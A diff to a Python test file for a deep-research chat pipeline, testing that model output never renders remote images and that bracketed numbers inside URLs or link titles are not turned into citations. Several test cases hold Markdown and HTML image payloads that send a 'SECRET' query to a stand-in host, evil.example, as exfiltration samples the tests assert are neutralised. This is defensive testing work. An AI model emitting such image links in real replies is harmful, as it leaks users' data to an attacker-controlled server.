@@ -4,7 +4,7 @@ import itertools
 import re
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from tongyi_deepresearch_openwebui_pipeline.core import sources
@@ -177,6 +177,8 @@ def test_images_of_pages_read_are_left_alone(ledger):
         '<picture><source srcset="https://evil.example/?q=SECRET"></picture>',
         '<svg><image href="https://evil.example/?q=SECRET"/></svg>',
         "![x](//evil.example/p.png?q=SECRET)",
+        # An image shown as text shows its title as text too: no image in it.
+        '![i](https://c.org/p.png "![x](https://evil.example/p.png?q=SECRET)")',
     ],
 )
 def test_remote_images_are_never_rendered(ledger, image):
@@ -640,6 +642,8 @@ def _is_cited_link(out, start):
     ).map("".join),
     cuts=st.lists(st.integers(0, 20_000), max_size=8),
 )
+# Found in random mode: the group "([7])" made the "[7]" part of the URL.
+@example(text="https://b.org/y([7])", cuts=[])
 def test_no_number_becomes_link_text_unless_its_link_is_cited(text, cuts):
     """Only the rewriter's citations ([1], [2]) and cited links' text stay live.
 
@@ -658,3 +662,66 @@ def test_no_number_becomes_link_text_unless_its_link_is_cited(text, cuts):
             continue
         assert "7" not in live.group(1), (whole, start)
         assert not whole.startswith(("(", "["), end), (whole, start)
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        # A "(…)" group makes the model's "[7]" part of the URL: RFC 3986
+        # wants "[" and "]" percent-encoded there, and so the number is text
+        # no renderer can take for a citation.
+        ("https://b.org/y([7])", f"https://b.org/y(%5B7%5D) {UNVERIFIED_MARK}"),
+        ("https://c.org/z(x[7]).", f"https://c.org/z(x%5B7%5D) {UNVERIFIED_MARK}."),
+        ("[x](https://c.org/z[7])", f"[x](https://c.org/z%5B7%5D) {UNVERIFIED_MARK}"),
+        (
+            "[x](<https://c.org/z[7]>)",
+            f"[x](<https://c.org/z%5B7%5D>) {UNVERIFIED_MARK}",
+        ),
+        ("<https://c.org/z[7]>", f"<https://c.org/z%5B7%5D> {UNVERIFIED_MARK}"),
+        (
+            "![i](https://c.org/p.png[7])",
+            f"!\\[i\\](https://c.org/p.png%5B7%5D) {UNVERIFIED_MARK}",
+        ),
+        # Too long to cite, the URL is passed on: encoded all the same, in its
+        # first part and in its continuation.
+        (LONG_URL + "([7])", LONG_URL + "(%5B7%5D)"),
+        (
+            "https://c.org/([7])" + "a" * MAX_URL_CHARS,
+            "https://c.org/(%5B7%5D)" + "a" * MAX_URL_CHARS,
+        ),
+        # The one place brackets belong: an IPv6 host, kept as written.
+        ("<https://[::1]/x[7]>", f"<https://[::1]/x%5B7%5D> {UNVERIFIED_MARK}"),
+        (
+            "[a](http://[2001:db8::1]:8080/[7])",
+            f"[a](http://[2001:db8::1]:8080/%5B7%5D) {UNVERIFIED_MARK}",
+        ),
+        # A link's title: Markdown shows "\[7\]" there as "[7]".
+        (
+            '[x](https://c.org/z "[7](y)")',
+            f'[x](https://c.org/z "\\[7\\](y)") {UNVERIFIED_MARK}',
+        ),
+    ],
+)
+def test_a_number_inside_a_url_or_title_is_not_live_text(ledger, text, expected):
+    assert_every_split_gives(text, expected, ledger)
+
+
+def test_a_url_with_brackets_is_cited_as_written_and_shown_encoded():
+    ledger = make_ledger()
+    add_read_page(ledger, page("https://d.org/w([7])", "D"))
+    add_read_page(ledger, page("https://d.org/v[7]", "V"))
+    assert_every_split_gives(
+        "https://d.org/w([7]) and [V](https://d.org/v[7])",
+        "https://d.org/w(%5B7%5D) [3] and [V](https://d.org/v%5B7%5D) [4]",
+        ledger,
+    )
+
+
+def test_the_title_of_an_image_shown_as_text_is_rewritten_as_text(ledger):
+    """Its image is no image, its number no citation, its URL unverified."""
+    assert_every_split_gives(
+        '![i](https://c.org/p.png "[7] ![x](https://evil.example/p.png)")',
+        '!\\[i\\](https://c.org/p.png "\\[7\\] !\\[x]'
+        f'(https://evil.example/p.png {UNVERIFIED_MARK})") {UNVERIFIED_MARK}',
+        ledger,
+    )
